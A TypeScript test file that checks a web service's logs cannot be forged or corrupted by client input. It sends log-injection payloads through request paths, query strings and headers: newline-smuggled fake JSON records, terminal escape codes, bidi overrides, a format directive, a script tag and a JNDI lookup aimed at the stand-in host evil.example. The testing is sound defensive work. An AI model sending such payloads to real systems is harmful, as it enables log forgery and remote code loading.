// Row 108: nobody writes into our log. Whatever a client sends, and wherever, each line stays one JSON document of known fields, in which
// nothing of it stands.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createLog } from "../../src/log.ts";
import { createTestService, ownPath, sdkPath } from "../support/app.ts";
import { startNodeProduct } from "../support/product-node.ts";
import { startWorkerProduct } from "../support/product-worker.ts";
import type { Product } from "../support/product.ts";
import { exchangeRaw, rawRequest } from "../support/raw-socket.ts";
import { eventually } from "../support/redis-server.ts";

const planted = "INJECTED";
const forged = `{"kind":"request","status":200,"${planted}":1}`;
const utf8 = (text: string) => Buffer.from(text, "utf8").toString("latin1");

/** What makes a terminal, a line reader or a parser of logs see something that is not there. */
const tricks: readonly (readonly [string, string])[] = [
  ["a line break", `\n${forged}`],
  ["a carriage return", `\r\n${forged}`],
  ["a red text", `\u001b[31m${planted}\u001b[0m`],
  ["a cleared screen", `\u001b[2J${planted}`],
  ["a bell, a backspace and a NUL", `\u0007\b\u0000${planted}`],
  ["a C1 control", `\u0085${planted}\u009b31m`],
  ["a line separator", `\u2028${forged}`],
  ["a paragraph separator", `\u2029${forged}`],
  ["a right-to-left override", `\u202e${planted}`],
  ["a quote and a backslash", `"\\${planted}`],
  ["a format directive", `%s%n${planted}`],
  ["a lookup", `\${jndi:ldap://evil.example/${planted}}`],
  ["a script", `<script>${planted}</script>`],
  ["a very long text", planted.repeat(500)],
];

/** The same as bytes and percent-encoded, in every place of a request. */
function requestsWith(trick: string): string[] {
  const encoded = encodeURIComponent(trick);
  const targets = [
    `/${encoded}`,
    `/v1/apps/${encoded}/sessions`,
    `${ownPath}?search=${encoded}`,
    `${ownPath}?${encoded}=${encoded}`,
    `${ownPath}?page_no=${encoded}`,
    sdkPath.replace("/_/", `/${encoded}/`),
    `/problems/${encoded}`,
    `/${utf8(trick)}`,
    `/${utf8(trick)}?${utf8(trick)}`,
  ];
  const names = [
    "Origin",
    "User-Agent",
    "Referer",
    "X-Request-Id",
    "Traceparent",
    "If-None-Match",
    "X-Forwarded-For",
    "Authorization",
    "Cookie",
    "Accept",
    planted,
  ];
  return [
    ...targets.map((target) => rawRequest(target)),
    // A refused query makes a line of every one of these.
    ...names.flatMap((name) =>
      [encoded, utf8(trick)].map((value) =>
        rawRequest(`${ownPath}?page_no=x`, { headers: `Host: product\r\n${name}: ${value}` }),
      ),
    ),
    rawRequest(ownPath, { method: "PURGE", headers: `Host: product\r\nX-HTTP-Method-Override: ${encoded}` }),
  ];
}

const fields = ["duration_ms", "event", "events", "kind", "method", "part", "request_id", "route", "status"];

function expectClean(lines: readonly string[]): void {
  for (const line of lines) {
    expect(line).not.toMatch(/[^\x20-\x7e]/);
    expect(line).not.toMatch(/INJECTED|evil\.example/i);
    const parsed = JSON.parse(line) as Record<string, unknown>;
    expect(Object.keys(parsed).filter((name) => !fields.includes(name))).toEqual([]);
    expect(line.length).toBeLessThan(2_000);
  }
}

/** A Worker never sees a Host that is none: its platform refuses it in its own words. */
const oddHost = (trick: string) =>
  rawRequest(`${ownPath}?page_no=x`, { headers: `Host: ${encodeURIComponent(trick)}` });

describe.each([
  ["the Node process", startNodeProduct, [oddHost]],
  ["the Worker", startWorkerProduct, []],
] as const)("row 108: %s", (_, start, further) => {
  let product: Product;
  beforeAll(async () => {
    product = await start();
  });
  afterAll(() => product.stop());

  it.each(tricks)("writes nothing of %s", async (_name, trick) => {
    const before = product.logs().length;
    const texts = [...requestsWith(trick), ...further.map((make) => make(trick))];
    await Promise.all(texts.map((text) => exchangeRaw(product.url, text)));
    // A line may come after its answer.
    await eventually("the requests are in the log", () => product.logs().length - before > 10);
    expectClean(product.logs());
  });
});

/** The characters that a method has on no platform, as far as JSON escapes them. */
const withoutPlanted = (trick: string) => trick.replaceAll(/[\u0080-\u{10ffff}]|INJECTED|evil\.example/gu, "");

it("row 108: a method is written as JSON has it, and a route as we named it", async () => {
  const lines: string[] = [];
  const { send } = createTestService({ services: { log: createLog((line) => lines.push(line)) } });
  for (const [, trick] of tricks) {
    await send(ownPath, {
      method: `X${withoutPlanted(trick)}`,
    });
    await send(`/${encodeURIComponent(trick)}`);
  }
  expect(lines).toHaveLength(2 * tricks.length);
  expectClean(lines);
});
